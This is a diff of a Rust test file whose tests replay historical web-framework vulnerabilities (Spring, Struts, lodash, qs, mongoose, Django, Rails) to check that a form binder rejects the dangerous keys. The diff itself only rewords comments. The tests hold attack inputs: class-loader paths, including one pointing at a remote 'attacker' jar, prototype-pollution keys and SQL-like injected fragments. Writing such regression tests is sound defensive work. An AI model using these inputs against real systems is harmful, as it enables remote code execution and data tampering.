@@ -1,9 +1,9 @@
-//! Keys that other binders evaluate, fold, trim or walk.
+//! Keys that other binders evaluate, fold, trim or follow as paths.
 
 use super::{form, is_unknown, is_valid, json};
 use forms::Form;
 
-/// A bean of a greeting page.
+/// The bean of a greeting page.
 #[derive(Form, Debug, Clone, PartialEq)]
 #[form(fields = all)]
 pub(crate) struct Greeting {
@@ -14,7 +14,7 @@ pub(crate) struct Greeting {
 
 const GREETING: (&str, &str) = ("id=1&content=hello", r#""id":1,"content":"hello""#);
 
-/// Spring4Shell: a path of properties walked from the bean to the class loader and wrote a log file that was a program.
+/// Spring4Shell: a path of properties led from the bean to the class loader, and made it write a program as a log file.
 #[test]
 fn cve_2022_22965_spring4shell() {
     is_valid::<Greeting>(GREETING);
@@ -31,14 +31,14 @@ fn cve_2022_22965_spring4shell() {
     assert_eq!(said, "?class:unknown");
 }
 
-/// The same walk twelve years before, by `class.classLoader`.
+/// The same path twelve years before, through `class.classLoader`.
 #[test]
 fn cve_2010_1622_spring_class_loader() {
     is_unknown::<Greeting>(GREETING, "class.classLoader.URLs[0]", "jar:http://attacker/spring-exploit.jar!/");
     assert_eq!(form::<Greeting>("id=1&content=hello&content.class.name=x"), "?content.class.name:unknown");
 }
 
-/// Spring's `disallowedFields` compared case by case, its binder did not.
+/// Spring: `disallowedFields` was case-sensitive, the binder was not.
 #[test]
 fn cve_2022_22968_spring_disallowed_fields_case() {
     for key in ["Id", "ID", "iD", "Content", "CONTENT", "Class.module", "CLASS"] {
@@ -46,7 +46,7 @@ fn cve_2022_22968_spring_disallowed_fields_case() {
     }
 }
 
-/// The fix folded case by the locale of the machine: under a Turkish one, `I` is no `i`.
+/// The fix folded case in the locale of the machine: in a Turkish one, `I` does not become `i`.
 #[test]
 fn cve_2024_38820_spring_locale_case() {
     for key in ["\u{130}d", "\u{131}d", "I\u{307}d", "\u{212a}", "\u{17f}", "\u{ff49}\u{ff44}"] {
@@ -54,7 +54,7 @@ fn cve_2024_38820_spring_locale_case() {
     }
 }
 
-/// Struts: names of parameters were expressions; `class` was reached through them.
+/// Struts: parameter names were expressions, and reached `class`.
 #[test]
 fn cve_2014_0094_struts_class_loader() {
     is_unknown::<Greeting>(GREETING, "class['classLoader'].resources.dirContext.docBase", "x");
@@ -62,11 +62,11 @@ fn cve_2014_0094_struts_class_loader() {
     is_unknown::<Greeting>(GREETING, "top['class'].classLoader", "x");
 }
 
-/// Struts: the same hole was open by cookies, which were read as parameters.
+/// Struts: the same attack worked with cookies, which were read as parameters.
 #[test]
 fn cve_2014_0116_struts_cookies() {
-    // a form is bound to one body and to nothing else: of all that comes with a request, only the type of its content is
-    // looked at, and its parameters never become fields
+    // a form is bound to one body and nothing else: of the other parts of a request, only the content type is
+    // read, and its parameters never become fields
     let body = forms::Body::new("application/x-www-form-urlencoded; content=stolen; charset=utf-8", "id=1");
     assert_eq!(tests::report::report(Greeting::bind(&body).errors()), "content:required");
 }
@@ -86,7 +86,7 @@ fn cve_2010_1870_struts_ognl() {
     }
 }
 
-/// Graphiti: names of relationships in the body were called as methods.
+/// Graphiti: relationship names in the body were called as methods.
 #[test]
 fn cve_2026_33286_graphiti_relationship_names() {
     for key in ["destroy", "delete_all", "instance_eval", "relationships", "drop", "finish", "apply"] {
@@ -96,7 +96,7 @@ fn cve_2026_33286_graphiti_relationship_names() {
     assert_eq!(said, "?relationships:unknown");
 }
 
-/// Vault's reading of AWS requests, in Go: keys were folded, the last of two won, and what came behind was not seen.
+/// Vault, reading AWS requests in Go: keys were folded, the last of two won, and the rest was not checked.
 #[test]
 fn cve_2020_16250_go_json_case_and_duplicates() {
     #[derive(Form, Debug, Clone, PartialEq)]
@@ -111,7 +111,7 @@ fn cve_2020_16250_go_json_case_and_duplicates() {
     assert_eq!(form::<Request>("action=read&ACTION=write"), "?ACTION:unknown");
 }
 
-/// lodash: `__proto__` and `constructor.prototype` in a body changed every object of the program.
+/// lodash: `__proto__` and `constructor.prototype` in a body changed every object in the program.
 #[test]
 fn cve_2019_10744_lodash_prototype_pollution() {
     is_unknown::<Greeting>(GREETING, "constructor", "x");
@@ -121,7 +121,7 @@ fn cve_2019_10744_lodash_prototype_pollution() {
     assert_eq!(said, "?__proto__:unknown ?constructor:unknown");
 }
 
-/// qs: `__proto__` in a query, which also made every later check hang.
+/// qs: `__proto__` in a query also made every later check hang.
 #[test]
 fn cve_2022_24999_qs_prototype_poisoning() {
     for key in
@@ -133,7 +133,7 @@ fn cve_2022_24999_qs_prototype_poisoning() {
     assert!(said.contains("?a[length]:unknown"), "{said}");
 }
 
-/// mongoose: the pollution came through the body of an update; our reports name such keys in values, never as keys.
+/// mongoose: the pollution came through the body of an update; our reports have such keys only as values, never as keys.
 #[test]
 fn cve_2023_3696_mongoose_prototype_pollution() {
     let body = forms::Body::json(
@@ -151,7 +151,7 @@ fn cve_2023_3696_mongoose_prototype_pollution() {
     }
 }
 
-/// Django: names of a user's dictionary were used as names of columns and operators.
+/// Django: keys of a user's dictionary were used as names of columns and operators.
 #[test]
 fn cve_2025_64459_django_connector_keys() {
     for key in ["_connector", "_negated", "id__gt", "content__regex", "pk", "id)--", "content) OR 1=1 OR (x"]
@@ -160,7 +160,7 @@ fn cve_2025_64459_django_connector_keys() {
     }
 }
 
-/// Django: `dictsort` looked up what the body named, as far as private attributes.
+/// Django: `dictsort` followed the path that the body named, even to private attributes.
 #[test]
 fn cve_2021_45116_django_dictsort() {
     for key in ["content.__class__", "content.0", "__init__.__globals__", "id.real", "0"] {
@@ -168,7 +168,7 @@ fn cve_2021_45116_django_dictsort() {
     }
 }
 
-/// Rails: `_method` in a body changes the method of the request. Here it is a key like any other.
+/// Rails: `_method` in a body changes the method of the request. Here it is an ordinary key.
 #[test]
 fn rails_method_override_is_an_unknown_key() {
     for key in ["_method", "_METHOD", "X-HTTP-Method-Override", "utf8", "authenticity_token"] {
